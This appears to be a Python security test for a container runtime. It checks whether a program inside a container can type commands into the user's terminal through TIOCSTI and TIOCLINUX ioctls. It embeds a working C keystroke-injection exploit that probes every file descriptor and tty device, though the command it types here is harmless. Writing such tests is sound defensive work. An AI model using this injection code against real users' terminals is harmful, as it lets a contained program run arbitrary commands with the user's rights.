"""A container types into the user's shell: TIOCSTI through its handles and /dev/tty."""
# may-skip: the kernel refuses TIOCSTI to everybody (dev.tty.legacy_tiocsti = 0, since 6.2)

import os
import pty
import select
import shlex
import shutil
import subprocess
import time

import lib

# what the image runs: TIOCSTI and TIOCLINUX on every handle and every terminal that it finds, also with
# garbage in the upper half of the request, and as the leader of a session of its own
ATTACK = r"""
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>

static void type_into(int fd) {
    const char *text = "touch TARGET\n";
    for (const char *c = text; *c; c++) {
        if (syscall(SYS_ioctl, fd, 0x5412UL, c) != 0)
            syscall(SYS_ioctl, fd, 0xdeadbeef00005412UL, c);
    }
    char paste = 3;
    syscall(SYS_ioctl, fd, 0x541CUL, &paste);
}

static void all(void) {
    for (int fd = 0; fd < 64; fd++) type_into(fd);
    const char *names[] = {"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0", "/proc/self/fd/1",
                           "/proc/self/fd/2", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"};
    for (unsigned n = 0; n < sizeof names / sizeof *names; n++) {
        int fd = open(names[n], O_RDWR | O_NOCTTY);
        if (fd >= 0) { type_into(fd); close(fd); }
        fd = open(names[n], O_RDWR);
        if (fd >= 0) { type_into(fd); close(fd); }
    }
}

int main(void) {
    all();
    if (fork() == 0) {
        setsid();
        for (int fd = 0; fd < 3; fd++) ioctl(fd, TIOCSCTTY, 1);
        all();
        _exit(0);
    }
    while (wait(0) > 0) {}
    puts("tried");
    return 0;
}
"""


def programs(case, target):
    """The attack as a program of 64 bits, and of 32 bits where one can be made."""
    source = case.write("attack.c", ATTACK.replace("TARGET", target))
    made = []
    for name, flag in [("attack64", "-m64"), ("attack32", "-m32")]:
        path = os.path.join(case.dir, name)
        built = subprocess.run(["gcc", flag, "-static", "-o", path, source], capture_output=True, text=True, check=False)
        if built.returncode == 0:
            with open(path, "rb") as program:
                made.append((name, program.read()))
    if not made:
        raise lib.Skip("gcc makes no program here")
    return made


def session(case, lines):
    """An interactive shell on a terminal of its own, as the user; every line is typed when the shell waits."""
    argv = ["bash", "--norc", "--noprofile", "-i"]
    pid, master = pty.fork()
    if pid == 0:
        if case.user and os.geteuid() == 0:
            os.setgroups([])
            os.setgid(case.user.pw_gid)
            os.setuid(case.user.pw_uid)
        os.chdir(case.dir)
        os.execvpe(argv[0], argv, {**case.env, "PS1": "WAITS> ", "TERM": "dumb"})
    seen = b""

    def until_it_waits(prompts):
        nonlocal seen
        deadline = time.monotonic() + 90
        while seen.count(b"WAITS> ") < prompts:
            if time.monotonic() > deadline:
                raise RuntimeError(f"the shell does not come back: {seen!r}")
            if select.select([master], [], [], 0.1)[0]:
                try:
                    data = os.read(master, 65536)
                except OSError:
                    return
                if not data:
                    return
                seen += data

    until_it_waits(1)
    for number, line in enumerate(lines, 2):
        os.write(master, line.encode() + b"\n")
        until_it_waits(number)
    # what was typed by another is run after the prompt
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        if select.select([master], [], [], 0.1)[0]:
            try:
                seen += os.read(master, 65536)
            except OSError:
                break
    os.write(master, b"exit\n")
    os.close(master)
    os.waitpid(pid, 0)
    return seen


def attack(case):
    """a program in a container cannot type into the terminal that started it"""
    with open("/proc/sys/dev/tty/legacy_tiocsti", encoding="ascii") as switch:
        if switch.read().strip() == "0":
            raise lib.Skip("dev.tty.legacy_tiocsti is 0: the kernel refuses it to everybody")
    target = os.path.join(case.dir, "typed")
    made = programs(case, target)
    sif = case.sif(files=[("/opt/" + name, data, 0o755) for name, data in made])
    case.make("work")
    run = f"{shlex.quote(case.moorline)} -q run --runtime RUNTIME {shlex.quote(sif)} -- /opt/NAME"
    runtimes = ["builtin"] + [r for r in ("apptainer", "singularity") if shutil.which(r)]
    tried = 0
    for runtime in runtimes:
        for name, _ in made:
            line = run.replace("RUNTIME", runtime).replace("NAME", name)
            for how in ["", " </dev/null", " | cat", " </dev/null 2>&1 | cat", " </dev/null >/dev/null 2>&1"]:
                seen = session(case, [f"cd {shlex.quote(case.dir)}/work", line + how, "echo end"])
                tried += seen.count(b"tried")
                if os.path.exists(target):
                    return lib.broken(f"the shell ran what {name} typed ({runtime}{how or ', plain'})")
    if not tried:
        raise RuntimeError(f"the attack did not run: {seen!r}")
    return f"{tried} ways were tried"


lib.main(attack)
